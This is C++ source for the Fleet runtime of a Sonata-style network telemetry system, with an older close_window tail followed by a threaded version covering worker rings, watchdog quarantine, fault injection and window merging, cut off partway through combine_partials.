  scratch_.clear();
  switches_.at(switch_index)->process_tuple(source, scratch_);
  for (const auto& rec : scratch_) {
    if (rec.kind == pisa::EmitRecord::Kind::kOverflow) ++current_.overflow_records;
    const int src_idx = remap_source(rec.qid, rec.level, rec.source_index);
    if (src_idx >= 0 && rec.kind != pisa::EmitRecord::Kind::kKeyReport) {
      executor(rec.qid, rec.level).ingest(src_idx, rec.tuple, rec.op_index);
    }
  }
  const bool raw = plan_.raw_mirror && !raw_feeds_.empty();
  if (raw) {
    ++current_.raw_mirror_packets;
    for (const auto& feed : raw_feeds_) {
      const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
      if (src_idx >= 0) executor(feed.qid, feed.level).ingest(src_idx, source, 0);
    }
  }
  if (raw || !scratch_.empty()) ++current_.tuples_to_sp;
}

void Fleet::ingest(const net::Packet& packet) {
  const std::uint64_t flow =
      util::hash_combine(util::hash_combine(packet.src_ip, packet.dst_ip),
                         (static_cast<std::uint64_t>(packet.src_port) << 24) ^
                             (static_cast<std::uint64_t>(packet.dst_port) << 8) ^ packet.proto);
  ingest_at(static_cast<std::size_t>(flow % switches_.size()), packet);
}

WindowStats Fleet::close_window() {
  std::vector<double> control_before;
  control_before.reserve(switches_.size());
  for (const auto& sw : switches_) control_before.push_back(sw->stats().control_update_millis);

  // 1. Poll every switch; partial aggregates merge at the shared reduce.
  for (const auto& sw : switches_) {
    for (const auto& p : sw->pipelines()) {
      if (!p->has_stateful_tail()) continue;
      const int src_idx =
          remap_source(p->options().qid, p->options().level, p->options().source_index);
      if (src_idx < 0) continue;
      auto& exec = executor(p->options().qid, p->options().level);
      for (Tuple& t : p->poll_aggregates()) {
        exec.ingest(src_idx, std::move(t), p->poll_entry_op());
      }
    }
  }

  // 2. Close coarse-to-fine; winners install on EVERY switch.
  for (auto& qs : queries_) {
    const PlannedQuery& pq = *qs.pq;
    for (std::size_t li = 0; li < qs.levels.size(); ++li) {
      std::vector<Tuple> outputs = qs.levels[li].exec->end_window();
      const bool finest = li + 1 == qs.levels.size();
      if (finest) {
        current_.results.push_back({pq.base->id(), pq.base->name(), std::move(outputs)});
        continue;
      }
      const int level = qs.levels[li].level;
      const int next = qs.levels[li + 1].level;
      const auto& schema = pq.exec_queries.at(level).root()->output_schema();
      const std::string& key_col = pq.keys.empty() ? std::string{} : pq.keys.front().key_column;
      const auto idx = schema.index_of(key_col);
      std::vector<Tuple> winners;
      if (idx) {
        std::unordered_set<Tuple, query::TupleHasher> dedup;
        for (const Tuple& out : outputs) {
          Tuple key;
          key.values.push_back(out.at(*idx));
          if (dedup.insert(key).second) winners.push_back(std::move(key));
        }
      }
      for (const auto& p : pq.pipelines) {
        if (p.level != next || p.filter_table.empty()) continue;
        for (const auto& sw : switches_) sw->update_filter_entries(p.filter_table, winners);
        qs.levels[li + 1].exec->set_filter_entries(p.filter_table, winners);
      }
      auto& installed = current_.winners[pq.base->id()];
      installed.insert(installed.end(), winners.begin(), winners.end());
    }
  }

  // 3. Reset all registers. Control latency = the slowest switch's update
  //    time this window (updates run in parallel across the fleet).
  double control = 0.0;
  for (std::size_t i = 0; i < switches_.size(); ++i) {
    switches_[i]->reset_all_registers();
    control = std::max(control, switches_[i]->stats().control_update_millis - control_before[i]);
  }
  current_.control_update_millis = control;

  current_.window_index = window_counter_++;
  WindowStats out = std::move(current_);
  current_ = WindowStats{};
  return out;
}

std::vector<WindowStats> Fleet::run_trace(std::span<const net::Packet> trace) {
  std::vector<WindowStats> out;
  const util::Nanos w = plan_.window;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    for (std::size_t i = begin; i < end; ++i) ingest(trace[i]);
    out.push_back(close_window());
    begin = end;
  }
  return out;
}

}  // namespace sonata::runtime
