#include "runtime/fleet.h"

#include <algorithm>
#include <cassert>
#include <chrono>
#include <span>
#include <thread>
#include <utility>

#include "obs/journal.h"
#include "pisa/extract.h"
#include "runtime/plan_install.h"
#include "util/cpu.h"
#include "util/flat_table.h"
#include "util/hash.h"
#include "util/log.h"

namespace sonata::runtime {

using query::Tuple;

Fleet::Fleet(planner::Plan plan, std::size_t switch_count, std::size_t worker_threads,
             std::size_t batch_size, fault::FaultSpec faults, bool pin_workers)
    : plan_(std::move(plan)),
      sp_(std::make_unique<StreamProcessor>(plan_)),
      batch_size_(std::max<std::size_t>(batch_size, 1)),
      pin_workers_(pin_workers) {
  assert(switch_count >= 1);
  // A stall without a watchdog would spin the window barrier forever
  // (parse_fault_spec rejects this; assert for programmatic specs).
  assert(faults.stall_windows == 0 || faults.watchdog_ms > 0);
  raw_mirror_ = sp_->wants_raw_mirror();
  if (faults.any()) injector_ = std::make_unique<fault::Injector>(faults);
  if (injector_ && faults.wire_active()) wire_ = std::make_unique<WireChannel>(*injector_);
  quarantined_.assign(switch_count, 0);

  auto& reg = obs::Registry::global();
  wakeups_ctr_ = &reg.counter("sonata_fleet_wakeups_total");
  backoffs_ctr_ = &reg.counter("sonata_fleet_backoffs_total");
  sleeps_ctr_ = &reg.counter("sonata_fleet_sleeps_total");
  partial_windows_ctr_ = &reg.counter("sonata_fleet_partial_windows_total");

  // One identical switch program per ingress point.
  for (std::size_t i = 0; i < switch_count; ++i) {
    auto shard = std::make_unique<Shard>();
    shard->index = i;
    shard->sw = std::make_unique<pisa::Switch>(plan_.switch_config);
    shard->sw->set_obs_label(std::to_string(i));
    {
      const std::pair<std::string_view, std::string> labels[] = {{"sw", std::to_string(i)}};
      shard->packets_ctr = &reg.counter(obs::labeled("sonata_fleet_packets_total", labels));
      shard->stalls_ctr = &reg.counter(obs::labeled("sonata_fleet_stalls_total", labels));
      static constexpr std::uint64_t kRingBounds[] = {1, 2, 4, 8, 16, 32, 64, 128, 256, 512, 1024};
      shard->ring_depth =
          &reg.histogram(obs::labeled("sonata_fleet_ring_depth", labels), kRingBounds);
    }
    // Register pressure (fault injection): install with registers sized
    // for traffic that has since drifted (shrunken n) and/or an
    // adversarial hash seed, forcing collision-overflow storms.
    PipelineBuildOptions build_opts;
    build_opts.register_shrink = faults.register_shrink;
    build_opts.hash_seed = faults.hash_seed;
    PipelineBuild build = build_pipelines(plan_, {}, build_opts);
    const std::string err = shard->sw->install(std::move(build.pipelines), build.resources);
    assert(err.empty() && "plan does not fit the switch it was planned for");
    (void)err;
    shards_.push_back(std::move(shard));
  }

  // Pin shard i to worker i % threads; each shard has exactly one consumer.
  const std::size_t threads = std::min(worker_threads, switch_count);
  for (std::size_t w = 0; w < threads; ++w) {
    auto worker = std::make_unique<Worker>();
    for (std::size_t i = w; i < shards_.size(); i += threads) {
      worker->shards.push_back(shards_[i].get());
    }
    workers_.push_back(std::move(worker));
  }
  for (std::size_t w = 0; w < workers_.size(); ++w) {
    workers_[w]->thread = std::thread([this, worker = workers_[w].get(), w] {
      if (pin_workers_) {
        const int core = util::pin_thread_to_core(w);
        if (core >= 0) {
          pinned_workers_.fetch_add(1, std::memory_order_relaxed);
          SONATA_DEBUG("fleet", "worker %zu pinned to core %d (numa node %d)", w, core,
                       util::numa_node_of_core(core));
        } else {
          SONATA_DEBUG("fleet", "worker %zu pin failed", w);
        }
      }
      worker_loop(*worker);
    });
  }
}

Fleet::~Fleet() {
  stop_.store(true, std::memory_order_release);
  for (auto& w : workers_) wake(*w);
  for (auto& w : workers_) {
    if (w->thread.joinable()) w->thread.join();
  }
}

void Fleet::process_batch_on_shard(Shard& shard, std::span<const net::Packet> packets) {
  // Parse into the shard's tuple slots — warm slots keep their value
  // storage, so a steady-state batch materializes without touching the
  // allocator — and run the pipelines in cache-sized chunks. Each phase
  // timer spans a kTimedRun-packet stretch, not a single 16-tuple chunk:
  // per-chunk clock reads would dominate the obs overhead budget.
  constexpr std::size_t kTimedRun = 256;
  while (!packets.empty()) {
    const std::size_t run = std::min(packets.size(), kTimedRun);
    if (shard.tuple_scratch.size() < run) shard.tuple_scratch.resize(run);
    {
      // Batched PHV extraction: AVX2 gathers pull the numeric columns of 4
      // packets per pass (scalar under SONATA_NO_AVX2 / old CPUs, bit-
      // identical either way).
      obs::PhaseTimer t{shard.phases, obs::Phase::kIngest};
      pisa::extract_batch(packets.first(run), shard.tuple_scratch.data());
    }
    {
      // One clock read per timed run stamps every record the run emits
      // (arena residency until the window merge is the dominant latency
      // component; the stamp is metadata only and never affects results).
      const std::uint64_t ingest_ns = obs::enabled() ? obs::now_ns() : 0;
      obs::PhaseTimer t{shard.phases, obs::Phase::kCompute};
      for (std::size_t off = 0; off < run; off += kProcessChunk) {
        process_tuples_on_shard(
            shard, {shard.tuple_scratch.data() + off, std::min(kProcessChunk, run - off)},
            ingest_ns);
      }
    }
    packets = packets.subspan(run);
  }
}

void Fleet::process_tuples_on_shard(Shard& shard, std::span<Tuple> tuples,
                                    std::uint64_t ingest_ns) {
  const std::uint64_t before = shard.sink.packets_with_records();
  const std::size_t recs_before = shard.sink.size();
  shard.sw->process_batch(tuples, shard.sink);
  if (ingest_ns != 0) {
    const std::span<pisa::EmitRecord> recs = shard.sink.records();
    for (std::size_t r = recs_before; r < recs.size(); ++r) recs[r].ingest_ns = ingest_ns;
  }
  if (raw_mirror_) {
    shard.raw_mirror_packets += tuples.size();
    shard.tuples_to_sp += tuples.size();
    for (Tuple& t : tuples) shard.raw_sources.push_back(std::move(t));
  } else {
    shard.tuples_to_sp += shard.sink.packets_with_records() - before;
  }
}

void Fleet::process_legacy_on_shard(Shard& shard, const net::Packet& packet) {
  // The pre-batching per-packet path, kept verbatim behind batch_size == 1
  // as the equivalence baseline: fresh tuple, one switch call, per-packet
  // accounting.
  const Tuple source = query::materialize_tuple(packet);
  const std::uint64_t before = shard.sink.packets_with_records();
  const std::size_t recs_before = shard.sink.size();
  shard.sw->process_one(source, shard.sink);
  if (obs::enabled() && shard.sink.size() > recs_before) {
    const std::uint64_t now = obs::now_ns();
    const std::span<pisa::EmitRecord> recs = shard.sink.records();
    for (std::size_t r = recs_before; r < recs.size(); ++r) recs[r].ingest_ns = now;
  }
  if (raw_mirror_) {
    ++shard.raw_mirror_packets;
    ++shard.tuples_to_sp;
    shard.raw_sources.push_back(source);
  } else {
    shard.tuples_to_sp += shard.sink.packets_with_records() - before;
  }
}

bool Fleet::stalled(const Shard& shard) const noexcept {
  return injector_ != nullptr &&
         injector_->stall_active(shard.index, window_pub_.load(std::memory_order_acquire));
}

bool Fleet::maybe_resync(Shard& shard) {
  std::uint64_t target = shard.resync_to.load(std::memory_order_acquire);
  if (target == 0) return false;
  do {
    // Discard the condemned ring prefix without processing it; the driver
    // flushed every staged packet before quarantining, so the ring holds
    // everything up to `target`.
    while (shard.drained.load(std::memory_order_relaxed) < target) {
      const std::size_t want = static_cast<std::size_t>(
          target - shard.drained.load(std::memory_order_relaxed));
      const auto run = shard.queue.front_run(want);
      if (run.empty()) {
        std::this_thread::yield();
        continue;
      }
      shard.queue.retire(run.size());
      shard.drained.fetch_add(run.size(), std::memory_order_release);
    }
    // Clean slate: discard the quarantined window's partial output and
    // reset the registers, so the shard's next window starts from the same
    // switch state a healthy close would have left.
    shard.sink.clear();
    shard.raw_sources.clear();
    shard.tuples_to_sp = 0;
    shard.raw_mirror_packets = 0;
    shard.phases.reset();
    shard.sw->reset_all_registers();
  } while (!shard.resync_to.compare_exchange_strong(target, 0, std::memory_order_acq_rel));
  // Worker-thread emit is fine: the journal ring is lock-free and sharded.
  obs::Journal::global().emit(obs::EventType::kShardResynced,
                              window_pub_.load(std::memory_order_relaxed), 0,
                              static_cast<std::uint32_t>(shard.index));
  return true;
}

void Fleet::worker_loop(Worker& w) {
  const std::uint64_t slow_ns = injector_ ? injector_->spec().slow_ns : 0;
  std::uint64_t flushed_yields = 0, flushed_sleeps = 0;
  for (;;) {
    bool did_work = false;
    for (Shard* shard : w.shards) {
      // Parallel window close: the driver only raises close_req after the
      // barrier saw this shard drained, so the ring is empty and the
      // request can be served before (or instead of) any packet work.
      if (shard->close_req.load(std::memory_order_acquire) != 0) {
        do_shard_close(*shard);
        shard->close_req.store(0, std::memory_order_relaxed);
        shard->close_done.store(1, std::memory_order_release);
        did_work = true;
      }
      if (batch_size_ == 1) {
        // Legacy per-packet drain (the equivalence baseline).
        net::Packet p;
        for (;;) {
          if (maybe_resync(*shard)) {
            did_work = true;
            continue;
          }
          if (stalled(*shard)) break;
          if (!shard->queue.try_pop(p)) break;
          const std::uint64_t target = shard->resync_to.load(std::memory_order_acquire);
          if (target != 0 && shard->drained.load(std::memory_order_relaxed) < target) {
            // Quarantined while popping: this packet is condemned.
            shard->drained.fetch_add(1, std::memory_order_release);
            continue;
          }
          if (target != 0) maybe_resync(*shard);  // popped past the target: recover first
          if (slow_ns > 0) {
            injector_->note_slowdown();
            std::this_thread::sleep_for(std::chrono::nanoseconds(slow_ns));
          }
          process_legacy_on_shard(*shard, p);
          shard->drained.fetch_add(1, std::memory_order_release);
          did_work = true;
        }
        continue;
      }
      for (;;) {
        if (maybe_resync(*shard)) {
          did_work = true;
          continue;
        }
        if (stalled(*shard)) break;
        // Zero-copy drain: process packets in place in the ring slots, then
        // retire the run — no move out of the ring.
        const std::span<const net::Packet> run = shard->queue.front_run(batch_size_);
        if (run.empty()) break;
        // Re-check the quarantine cell after observing the run: the acquire
        // load of the ring head that made these packets visible also made
        // any earlier quarantine visible, so packets enqueued after a
        // quarantine can never be processed into a condemned emit arena.
        if (shard->resync_to.load(std::memory_order_acquire) != 0) continue;
        if (slow_ns > 0) {
          injector_->note_slowdown();
          std::this_thread::sleep_for(std::chrono::nanoseconds(slow_ns));
        }
        process_batch_on_shard(*shard, run);
        shard->queue.retire(run.size());
        // Release-publish the buffer writes; the driver's acquire load at
        // the barrier makes them visible without locks.
        shard->drained.fetch_add(run.size(), std::memory_order_release);
        did_work = true;
      }
    }
    if (did_work) {
      w.backoff.reset();
      continue;
    }
    if (stop_.load(std::memory_order_acquire)) return;
    // Bounded spin before sleeping: a ring refill typically lands within
    // the pause/yield phases, and parking through the cv costs a syscall
    // round-trip plus the producer's mutex on every subsequent wake.
    if (!w.backoff.exhausted()) {
      w.backoff.pause();
      continue;
    }
    // Quiet point: flush the backoff tallies before parking.
    backoffs_ctr_->add(w.backoff.yields() - flushed_yields);
    sleeps_ctr_->add(w.backoff.sleeps() - flushed_sleeps);
    flushed_yields = w.backoff.yields();
    flushed_sleeps = w.backoff.sleeps();
    // Dekker handshake with wake(): publish "about to park", then check for
    // a signal that raced in; wake() stores signal before loading asleep,
    // so one side always sees the other.
    w.asleep.store(true, std::memory_order_seq_cst);
    if (w.signal.load(std::memory_order_seq_cst) ||
        stop_.load(std::memory_order_acquire)) {
      w.asleep.store(false, std::memory_order_relaxed);
      w.signal.store(false, std::memory_order_relaxed);
      w.backoff.reset();
      continue;
    }
    {
      std::unique_lock lk(w.mutex);
      w.cv.wait(lk, [&] {
        return w.signal.load(std::memory_order_relaxed) ||
               stop_.load(std::memory_order_acquire);
      });
    }
    w.asleep.store(false, std::memory_order_relaxed);
    w.signal.store(false, std::memory_order_relaxed);
    w.backoff.reset();
  }
}

void Fleet::wake(Worker& w) {
  // Wake elision: the common case (worker awake and scanning) is one
  // seq_cst store + one load, no mutex, no notify, no counter traffic.
  w.signal.store(true, std::memory_order_seq_cst);
  if (!w.asleep.load(std::memory_order_seq_cst)) return;
  wakeups_ctr_->add(1);
  {
    // The empty critical section closes the lost-wakeup window: a worker
    // past its signal re-check but not yet inside cv.wait holds the mutex,
    // so this lock cannot complete until it parks — and the notify below
    // then lands. (cv.wait re-checks the predicate under the lock.)
    std::lock_guard lk(w.mutex);
  }
  w.cv.notify_one();
}

void Fleet::shed_packet(Shard& /*shard*/) {
  // Ring stayed full past the watchdog budget: drop at ingest rather than
  // block the driver (and with it every healthy shard) on a sick worker.
  // The packet is already counted in current_.packets.
  ++current_.shed_packets;
  injector_->note_shed(1);
}

void Fleet::ingest_at(std::size_t switch_index, const net::Packet& packet) {
  ++current_.packets;
  Shard& shard = *shards_.at(switch_index);
  const bool watchdog = injector_ != nullptr && injector_->spec().watchdog_ms > 0;
  if (batch_size_ == 1) {
    // Legacy per-packet handoff (the equivalence baseline).
    if (workers_.empty()) {
      process_legacy_on_shard(shard, packet);
      return;
    }
    Worker& w = *workers_[switch_index % workers_.size()];
    const bool was_empty = shard.queue.empty();
    shard.packets_ctr->add(1);
    if (!shard.queue.try_push(packet)) {
      shard.stalls_ctr->add(1);
      if (watchdog) {
        if (shard.shedding) {
          shed_packet(shard);
          return;
        }
        const auto deadline = std::chrono::steady_clock::now() +
                              std::chrono::milliseconds(injector_->spec().watchdog_ms);
        for (;;) {
          wake(w);
          driver_backoff_.pause();
          if (shard.queue.try_push(packet)) break;
          if (std::chrono::steady_clock::now() >= deadline) {
            shard.shedding = true;
            shed_packet(shard);
            driver_backoff_.reset();
            return;
          }
        }
      } else {
        do {
          wake(w);
          driver_backoff_.pause();
        } while (!shard.queue.try_push(packet));
      }
      driver_backoff_.reset();
    }
    ++shard.enqueued;
    if (was_empty) wake(w);
    return;
  }
  if (workers_.empty()) {
    // Inline batch path: materialize straight into a reusable tuple slot
    // (no packet copy), run the pipelines at chunk granularity while the
    // tuples are hot (there is no handoff to amortize without workers).
    if (shard.tuples_pending == shard.tuple_scratch.size()) shard.tuple_scratch.emplace_back();
    query::materialize_tuple_into(packet, shard.tuple_scratch[shard.tuples_pending++]);
    if (shard.tuples_pending >= std::min(batch_size_, kProcessChunk)) {
      flush_shard(switch_index);
    }
    return;
  }
  // Threaded batch path: stage straight into the ring slot (one copy, no
  // intermediate buffer); the slot stays invisible to the worker until the
  // batch-boundary publish.
  Worker& w = *workers_[switch_index % workers_.size()];
  if (!shard.queue.try_stage(packet)) {
    // Ring full: publish what we have, make sure the worker is awake, and
    // yield to it.
    shard.stalls_ctr->add(1);
    if (watchdog) {
      if (shard.shedding) {
        shed_packet(shard);
        return;
      }
      const auto deadline = std::chrono::steady_clock::now() +
                            std::chrono::milliseconds(injector_->spec().watchdog_ms);
      for (;;) {
        flush_shard(switch_index);
        wake(w);
        driver_backoff_.pause();
        if (shard.queue.try_stage(packet)) break;
        if (std::chrono::steady_clock::now() >= deadline) {
          shard.shedding = true;
          shed_packet(shard);
          driver_backoff_.reset();
          return;
        }
      }
    } else {
      do {
        flush_shard(switch_index);
        wake(w);
        driver_backoff_.pause();
      } while (!shard.queue.try_stage(packet));
    }
    driver_backoff_.reset();
  }
  ++shard.staged_count;
  if (shard.staged_count >= batch_size_) flush_shard(switch_index);
}

void Fleet::flush_shard(std::size_t shard_index) {
  Shard& shard = *shards_[shard_index];
  if (workers_.empty()) {
    if (shard.tuples_pending == 0) return;
    shard.packets_ctr->add(shard.tuples_pending);
    const std::uint64_t ingest_ns = obs::enabled() ? obs::now_ns() : 0;
    obs::PhaseTimer t{driver_phases_, obs::Phase::kCompute};
    process_tuples_on_shard(shard, {shard.tuple_scratch.data(), shard.tuples_pending}, ingest_ns);
    shard.tuples_pending = 0;
    return;
  }
  if (shard.staged_count == 0) return;
  const bool was_empty = shard.queue.publish();
  shard.enqueued += shard.staged_count;
  if (obs::enabled()) {
    shard.packets_ctr->add(shard.staged_count);
    // Queue occupancy as the worker sees it right after this publish.
    shard.ring_depth->observe(shard.enqueued - shard.drained.load(std::memory_order_relaxed));
  }
  shard.staged_count = 0;
  if (was_empty) wake(*workers_[shard_index % workers_.size()]);
}

void Fleet::ingest(const net::Packet& packet) {
  const std::uint64_t flow =
      util::hash_combine(util::hash_combine(packet.src_ip, packet.dst_ip),
                         (static_cast<std::uint64_t>(packet.src_port) << 24) ^
                             (static_cast<std::uint64_t>(packet.dst_port) << 8) ^ packet.proto);
  ingest_at(static_cast<std::size_t>(flow % shards_.size()), packet);
}

void Fleet::drain_barrier() {
  // Hand over every partially filled batch first (inline mode processes it
  // right here), then wait for the workers to publish everything enqueued.
  for (std::size_t i = 0; i < shards_.size(); ++i) flush_shard(i);
  std::fill(quarantined_.begin(), quarantined_.end(), std::uint8_t{0});
  if (workers_.empty()) {
    current_.contribution_mask = full_contribution_mask();
    return;
  }
  const bool watchdog = injector_ != nullptr && injector_->spec().watchdog_ms > 0;
  // One shared budget for the whole barrier: a healthy barrier completes in
  // microseconds, so the deadline only matters when a worker is sick, and
  // sharing it keeps the degraded window close bounded by one budget rather
  // than one per stalled shard.
  const auto deadline =
      std::chrono::steady_clock::now() +
      std::chrono::milliseconds(watchdog ? injector_->spec().watchdog_ms : 0);
  std::uint64_t mask = 0;
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    Shard& s = *shards_[i];
    bool healthy = true;
    for (;;) {
      // A shard still finishing an older quarantine has not caught up even
      // if drained momentarily equals enqueued, so wait the resync out too.
      if (s.resync_to.load(std::memory_order_acquire) == 0 &&
          s.drained.load(std::memory_order_acquire) == s.enqueued) {
        break;
      }
      if (watchdog && std::chrono::steady_clock::now() >= deadline) {
        healthy = false;
        break;
      }
      // Workers may have raced to sleep around the last push; keep them
      // awake until their queues are dry.
      wake(*workers_[i % workers_.size()]);
      driver_backoff_.pause();
    }
    driver_backoff_.reset();
    if (healthy) {
      if (i < 64) mask |= 1ull << i;
    } else {
      // Quarantine: this shard's window is lost. Everything it was handed
      // since the last barrier counts late, its merge contribution is
      // skipped, and the worker is told to discard up to the current
      // enqueue count and reset before rejoining.
      quarantined_[i] = 1;
      const std::uint64_t late = s.enqueued - s.barrier_mark;
      current_.late_packets += late;
      injector_->note_watchdog_fire();
      injector_->note_late(late);
      obs::Journal::global().emit(obs::EventType::kShardQuarantined, current_.window_index, 0,
                                  static_cast<std::uint32_t>(i),
                                  static_cast<std::int64_t>(late), 0, 0, "watchdog timeout");
      // enqueued > 0 here: unhealthy requires drained != enqueued (or a
      // prior resync still pending, whose target was itself > 0).
      s.resync_to.store(s.enqueued, std::memory_order_release);
      wake(*workers_[i % workers_.size()]);
    }
    s.barrier_mark = s.enqueued;
  }
  current_.contribution_mask = mask;
  current_.partial = mask != full_contribution_mask();
}

WindowStats Fleet::do_close_window() {
  // Fix the closing window's index up front so journal events emitted
  // during the barrier/close (quarantine, sketch bounds) carry it; the
  // final increment below assigns the same value.
  current_.window_index = window_counter_;
  {
    obs::PhaseTimer merge_timer{driver_phases_, obs::Phase::kMerge};

    // 0. Window barrier: every shard queue drained, worker buffers
    //    published — or, under a watchdog, stragglers quarantined
    //    (quarantined_[i] set, their bit cleared from the contribution
    //    mask; their arenas are skipped below and wiped by the worker's
    //    resync, never merged).
    drain_barrier();

    // 1. Merge shard outputs into the shared stream executors in ascending
    //    switch order — deterministic regardless of worker interleaving.
    //    With wire faults configured every mirrored record round-trips the
    //    report codec through the faulty channel on this (merge) thread,
    //    so wire decisions are drawn deterministically in delivery order.
    const auto deliver = [&](pisa::EmitRecord&& rec) {
      // Overflow counts only accepted records: a corrupted header the SP's
      // routing boundary rejects counts as a wire decode failure instead.
      const bool overflow = rec.kind == pisa::EmitRecord::Kind::kOverflow;
      if (!sp_->deliver(std::move(rec))) return false;
      if (overflow) ++current_.overflow_records;
      return true;
    };
    // One delivery timestamp for the whole merge: every stamped record's
    // (delivery - ingest) lands in the per-(query, level) latency tallies.
    sp_->begin_delivery(obs::enabled() ? obs::now_ns() : 0);
    for (std::size_t i = 0; i < shards_.size(); ++i) {
      Shard& s = *shards_[i];
      if (quarantined_[i]) continue;  // lost window: worker resync wipes it
      if (wire_) {
        for (const pisa::EmitRecord& rec : s.sink.records()) wire_->transmit(rec, deliver);
      } else {
        for (pisa::EmitRecord& rec : s.sink.records()) deliver(std::move(rec));
      }
      sp_->deliver_raw_batch(s.raw_sources);
      current_.tuples_to_sp += s.tuples_to_sp;
      current_.raw_mirror_packets += s.raw_mirror_packets;
      s.sink.clear();
      s.raw_sources.clear();
      s.tuples_to_sp = 0;
      s.raw_mirror_packets = 0;
    }
    if (wire_) wire_->flush(deliver);  // release a still-held (reordered) record
  }
  // The barrier made every worker's phase clock visible (the same
  // release/acquire pair that publishes the emit arenas); fold the
  // workers' ingest/compute time into this window's breakdown.
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    if (quarantined_[i]) continue;  // worker-owned until its resync clears it
    driver_phases_.merge(shards_[i]->phases);
    shards_[i]->phases.reset();
  }

  std::vector<double> control_before;
  control_before.reserve(shards_.size());
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    // A quarantined switch is worker-owned until its resync completes —
    // don't even read its stats (placeholder keeps the vector aligned).
    control_before.push_back(quarantined_[i] ? 0.0
                                             : shards_[i]->sw->stats().control_update_millis);
  }

  // 2. Parallel poll + reset. Each healthy shard's worker polls its own
  //    stateful tails into shard.partials (registers already hold the
  //    shard-locally merged aggregates) and resets its registers; the
  //    driver folds the published partials key-wise and ingests each
  //    pipeline's merged aggregates once — a two-level combining tree
  //    (shard-local fold in parallel, driver fold once) replacing the old
  //    serial poll+shape+ingest+reset sweep through one thread.
  //    Quarantined switches are skipped: their registers hold a torn
  //    mid-window state and are reset by the worker's resync. Stalled-but-
  //    healthy shards (deterministic per window, so driver and worker
  //    agree) close inline on the driver — their simulated-hung workers
  //    never touch them. Inline mode runs the identical code path.
  {
    obs::PhaseTimer t{driver_phases_, obs::Phase::kPoll};
    if (workers_.empty()) {
      for (std::size_t i = 0; i < shards_.size(); ++i) {
        if (quarantined_[i]) continue;
        do_shard_close(*shards_[i]);
      }
    } else {
      for (std::size_t i = 0; i < shards_.size(); ++i) {
        Shard& s = *shards_[i];
        if (quarantined_[i]) continue;
        if (stalled(s)) {
          do_shard_close(s);
          s.close_done.store(1, std::memory_order_relaxed);
          continue;
        }
        s.close_done.store(0, std::memory_order_relaxed);
        s.close_req.store(1, std::memory_order_release);
        wake(*workers_[i % workers_.size()]);
      }
      for (std::size_t i = 0; i < shards_.size(); ++i) {
        Shard& s = *shards_[i];
        if (quarantined_[i]) continue;
        while (s.close_done.load(std::memory_order_acquire) == 0) {
          wake(*workers_[i % workers_.size()]);
          driver_backoff_.pause();
        }
        driver_backoff_.reset();
      }
    }
    combine_partials();
  }

  obs::PhaseTimer close_timer{driver_phases_, obs::Phase::kClose};

  // 3. Close coarse-to-fine; winners install on every healthy switch (a
  //    quarantined switch misses this window's winners — acceptable
  //    degradation, its next window runs one refinement step behind).
  std::vector<pisa::Switch*> switches;
  switches.reserve(shards_.size());
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    if (quarantined_[i]) continue;
    switches.push_back(shards_[i]->sw.get());
  }
  sp_->close_levels(current_, switches);

  // 4. Control latency = the slowest switch's update time this window
  //    (updates run in parallel across the fleet). The register reset
  //    itself already ran inside each shard's close phase; its modelled
  //    cost — plus this window's winner installs from step 3 — is in the
  //    stats delta, exactly as the serial close accounted it.
  double control = 0.0;
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    if (quarantined_[i]) continue;  // reset happens in the worker's resync
    control =
        std::max(control, shards_[i]->sw->stats().control_update_millis - control_before[i]);
  }
  current_.control_update_millis = control;

  // Quiet point: flush the driver's spin-wait escalation tallies.
  backoffs_ctr_->add(driver_backoff_.yields() - driver_flushed_yields_);
  sleeps_ctr_->add(driver_backoff_.sleeps() - driver_flushed_sleeps_);
  driver_flushed_yields_ = driver_backoff_.yields();
  driver_flushed_sleeps_ = driver_backoff_.sleeps();
  close_timer.stop();
  current_.phases = to_breakdown(driver_phases_);
  driver_phases_.reset();

  // 5. Fault accounting: attribute this window's slice of the injector's
  //    cumulative counters, and re-arm shedding for the next window.
  if (injector_) {
    const fault::FaultAccount cumulative = injector_->account();
    current_.faults = cumulative - last_account_;
    last_account_ = cumulative;
    if (current_.partial) partial_windows_ctr_->add(1);
    for (auto& s : shards_) s->shedding = false;
  }

  current_.window_index = window_counter_++;
  // Publish the new window index to workers (stall schedules key on it).
  window_pub_.store(window_counter_, std::memory_order_release);
  WindowStats out = std::move(current_);
  current_ = WindowStats{};
  return out;
}

void Fleet::do_shard_close(Shard& shard) {
  const auto& pipelines = shard.sw->pipelines();
  shard.partials.resize(pipelines.size());
  for (std::size_t p = 0; p < pipelines.size(); ++p) {
    shard.partials[p].keys.clear();
    shard.partials[p].values.clear();
    if (!pipelines[p]->has_stateful_tail()) continue;
    shard.partials[p] = pipelines[p]->poll_partial();
  }
  // publish_obs inside sees the pre-reset occupancy, exactly like the
  // serial driver-side reset did; the registry handles are atomic and
  // per-switch, so concurrent shard closes never contend on a cell.
  shard.sw->reset_all_registers();
}

void Fleet::combine_partials() {
  // Fold the participating shards' partials key-wise, per pipeline index
  // (every switch runs the identical program). First-appearance order
  // across ascending shard index reproduces exactly the executor-table
  // insertion order the serial shard-by-shard poll produced, and every
  // tail reduce fn (sum/max/min/bit-or) is associative and commutative, so
  // pre-folding repeated keys and ingesting the merged aggregates once is
  // bit-identical to ingesting each shard's aggregates in sequence.
  // `logical` preserves the pre-merge tuple count so SP ingress metrics
  // match the serial close to the tuple.
  std::size_t first = shards_.size();
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    if (!quarantined_[i]) {
      first = i;
      break;
    }
  }
  if (first == shards_.size()) return;  // every shard lost this window
  const auto& ref = shards_[first]->sw->pipelines();
  util::FlatMap<std::uint64_t> merged;
  std::vector<std::uint64_t> hashes;
  std::vector<Tuple> aggregates;
  for (std::size_t p = 0; p < ref.size(); ++p) {
    if (!ref[p]->has_stateful_tail()) continue;
    const pisa::CompiledSwitchQuery& pipe = *ref[p];
    const query::ReduceFn fn = pipe.tail_reduce_fn();
    std::uint64_t logical = 0;
    merged.clear();
    for (std::size_t i = first; i < shards_.size(); ++i) {
      if (quarantined_[i]) continue;
      auto& part = shards_[i]->partials[p];
      const std::size_t n = part.keys.size();
      logical += n;
